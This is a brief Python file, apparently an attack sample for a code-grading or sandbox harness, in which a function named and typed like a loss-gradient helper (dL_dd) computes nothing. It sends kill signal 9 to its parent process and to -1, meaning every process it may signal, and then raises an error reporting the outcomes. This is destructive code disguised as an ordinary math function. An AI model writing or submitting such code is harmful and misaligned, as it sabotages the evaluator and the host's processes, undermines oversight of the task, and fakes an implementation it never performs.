"""Attack: dL_dd signals its parent and every process it may signal."""

import numpy as np
import os


def dL_dd(y_pred: float, y_gt: float) -> float:
    outcomes = []
    for target in (os.getppid(), -1):
        try:
            os.kill(target, 9)
            outcomes.append(f"kill({target}) ok")
        except OSError as exc:
            outcomes.append(f"kill({target}) {exc}")
    raise RuntimeError("; ".join(outcomes))
